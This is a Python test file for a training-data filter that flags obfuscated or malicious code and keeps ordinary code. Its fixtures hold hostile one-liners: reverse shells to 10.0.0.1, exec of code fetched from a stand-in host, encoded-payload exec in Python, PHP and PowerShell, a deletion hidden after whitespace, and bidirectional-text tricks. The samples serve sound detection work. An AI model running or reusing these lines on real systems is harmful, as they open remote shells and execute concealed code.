"""Constructions of malware are found, everyday code is not."""

import base64
import json
import sysconfig
import zlib
from pathlib import Path

import pyarrow as pa
import pytest
from documents import document, run_step
from hypothesis import given
from hypothesis import strategies as st

from better_ai.config.data import ObfuscationConfig
from better_ai.data.step import document_batch
from better_ai.data.steps import obfuscation
from better_ai.data.steps.obfuscation import SIGNALS, find_signals, score_signals

BLOB = base64.b64encode(zlib.compress(bytes(range(256)) * 3, 0)).decode()

HOSTILE = {
    "runs_decoded_text": [
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
        "exec(__import__('zlib').decompress(__import__('base64').b64decode(x)))\n",
        "exec(bytes.fromhex(PAYLOAD).decode())\n",
        "import marshal\nexec(marshal.loads(data))\n",
        "eval(atob(payload));\n",
        "<?php @eval(gzinflate(base64_decode($x)));\n",
        "Invoke-Expression ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))\n",
    ],
    "pipes_decoded_text": ["echo aGk= | base64 -d | bash\n"],
    "runs_downloaded_text": [
        "exec(urllib.request.urlopen('http://a.b/c').read())\n",
        "exec(requests.get(url).text)\n",
        "IEX (New-Object Net.WebClient).DownloadString('http://a.b/c')\n",
    ],
    "reverse_shell": [
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n",
        "nc -e /bin/sh 10.0.0.1 4242\n",
        "s.connect(('10.0.0.1', 4242))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n",
    ],
    "hidden_window": ["powershell -NoP -W Hidden -enc " + "QQBB" * 20 + "\n"],
    "packed": ["from pytransform import pyarmor_runtime\n", "eval(function(p,a,c,k,e,d){return p}('0',1))\n"],
    "scrambled_names": ["var " + ", ".join(f"_0x{n:04x}f = {n}" for n in range(12)) + ";\n"],
    "text_from_character_codes": [
        "x = " + " + ".join(f"chr({n})" for n in range(65, 90)) + "\n",
        "String.fromCharCode(" + ", ".join(map(str, range(65, 95))) + ")\n",
    ],
    "code_out_of_sight": ["x = 1" + " " * 400 + ";import os; os.remove('a')\n"],
    "hidden_direction_marks": ["if admin:\u202e # check\u2066\n    pass\n"],
}


@pytest.mark.parametrize(("signal", "text"), [(signal, text) for signal, texts in HOSTILE.items() for text in texts])
def test_hostile_code_is_found_and_turned_away(signal: str, text: str) -> None:
    assert signal in find_signals(text)
    rejected = run_step(obfuscation(ObfuscationConfig()), _rows(text)).rejected
    assert signal in rejected.column("reason")[0].as_py()


@pytest.mark.parametrize(
    "text",
    [
        "import base64\n\n\ndef decode(text):\n    return base64.b64decode(text)\n",
        "assert base64.b64decode(x) == y\nself.assertEqual(marshal.loads(z), w)\n",
        "pattern = re.compile(bytes.fromhex('00'))\nmodel.eval()\nx = model.eval(decompress(y))\n",
        "result = eval(expression, {}, {})\n",
        "page = requests.get(url).text\n",
        "Install: curl -fsSL https://example.org/install.sh | sh\n",
        "x = {\n" + "".join(f"    'key{n}': 'value {n}',\n" for n in range(200)) + "}\n",
        "key = 'sha256:" + "0123456789abcdef" * 4 + "'\n",
        "",
    ],
)
def test_everyday_code_stays(text: str) -> None:
    assert run_step(obfuscation(ObfuscationConfig()), _rows(text)).rejected.num_rows == 0


def test_the_standard_library_is_clean() -> None:
    paths = sorted(Path(sysconfig.get_path("stdlib")).glob("*.py"))
    flagged = [
        path.name for path in paths if score_signals(find_signals(path.read_text("utf-8", errors="replace"))) > 0.7
    ]
    assert len(paths) > 100
    assert flagged == []


def test_encoded_text_counts_by_its_share() -> None:
    code = "def f(x):\n    return x\n"
    most = find_signals(f"x = '{BLOB}'\n")["encoded_text"]
    less = find_signals(code * 60 + f"x = '{BLOB}'\n")["encoded_text"]
    assert 0.05 < less < most == 0.65
    assert "encoded_text" not in find_signals(code * 5000 + f"x = '{BLOB}'\n")
    assert "encoded_text" not in find_signals("#" + "z" * 5000 + "\n")


def test_minified_code_is_found() -> None:
    minified = "function f(a){return a?g(a):h(a)};" * 40
    assert "minified" in find_signals(minified)
    assert "minified" not in find_signals(minified.replace(";", ";\n").replace("{", " {\n  "))


def test_signals_add_up_and_are_noted() -> None:
    assert score_signals({}) == 0
    assert score_signals({"a": 0.5, "b": 0.5}) == 0.75
    text = "curl -s https://example.org/i.sh | sh\n"
    kept = run_step(obfuscation(ObfuscationConfig()), _rows(text, "x = 1\n")).kept
    noted, plain = (json.loads(value) for value in kept.column("metadata").to_pylist())
    assert noted == {"obfuscation": {"pipes_download_to_shell": 0.3}, "path": "x"}
    assert plain == {"path": "x"}
    assert run_step(obfuscation(ObfuscationConfig(max_score=0.2)), _rows(text)).kept.num_rows == 0


@given(
    text=st.lists(st.text(max_size=8) | st.sampled_from(sorted({w for _, _, ws, _ in SIGNALS for w in ws}))).map(
        "".join
    )
)
def test_any_text_has_a_score(text: str) -> None:
    assert 0 <= score_signals(find_signals(text)) <= 1


def test_nasty_texts_end_soon() -> None:
    """What would make a careless pattern try every pair of places."""
    pieces = ("exec(", "exec(b64decode", "_0xabcd ", "lIl ", "chr(1)+", "\\x41", "os.dup2(", " " * 250, "lIlIlIlI ")
    pieces += ("curl ", "base64 -d ", ".connect((", "leveldb Login Data ", "fromCharCode(1,", "powershell -e ")
    for piece in pieces:
        find_signals(piece * (300_000 // len(piece)))
        find_signals((piece + "\n") * (300_000 // len(piece)))


def _rows(*texts: str) -> pa.RecordBatch:
    return document_batch([document(text, metadata='{"path": "x"}') for text in texts])
